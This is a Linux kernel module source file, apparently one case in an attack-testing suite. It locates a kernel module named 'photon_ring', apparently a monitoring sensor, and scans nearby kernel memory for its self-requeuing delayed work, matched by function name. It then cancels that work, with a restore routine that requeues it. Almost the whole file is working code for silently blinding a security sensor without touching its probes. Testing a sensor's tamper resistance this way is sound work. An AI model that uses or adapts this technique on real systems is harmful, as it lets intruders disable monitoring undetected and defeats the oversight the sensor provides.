// SPDX-License-Identifier: GPL-2.0-only
/*
 * Stops work of the sensor's that queues itself again and again: no probe is touched, no code
 * and no pointer. The work is found in the sensor's data by the function that it calls.
 */
#include <linux/timer.h>
#include <linux/uaccess.h>

#include "attack.h"

/* Of the data around the sensor's struct module, in bytes; KASAN surrounds each variable. */
#define REACH (1 << 20)

static char *function = "sweep";
module_param(function, charp, 0);

static struct delayed_work *stopped;

static bool calls(unsigned long at, unsigned long wanted)
{
	struct delayed_work *work = (void *)at;
	work_func_t func;
	void *timer;

	return !copy_from_kernel_nofault(&func, &work->work.func, sizeof(func)) &&
	       !copy_from_kernel_nofault(&timer, &work->timer.function, sizeof(timer)) &&
	       (unsigned long)func == wanted && timer == (void *)delayed_work_timer_fn;
}

static struct delayed_work *find(unsigned long middle, unsigned long wanted)
{
	unsigned long at;

	for (at = middle - REACH; at < middle + REACH; at += sizeof(long)) {
		if (calls(at, wanted))
			return (void *)at;
	}
	return NULL;
}

static int change(void)
{
	struct module *(*find_module)(const char *name) = (void *)attack_symbol(
		"find_module");
	char name[64];
	unsigned long wanted;
	struct module *sensor;

	snprintf(name, sizeof(name), "photon_ring:%s", function);
	wanted = attack_symbol(name);
	preempt_disable(); /* as in rcu_read_lock_sched(), which find_module() wants */
	sensor = find_module ? find_module("photon_ring") : NULL;
	preempt_enable();
	stopped = sensor && wanted ? find((unsigned long)sensor, wanted) : NULL;
	if (!stopped)
		return -ESRCH;
	cancel_delayed_work_sync(stopped);
	return 0;
}

static void restore(void)
{
	queue_delayed_work(system_wq, stopped, 1);
}

ATTACK(change, restore, "periodic work of the sensor's");
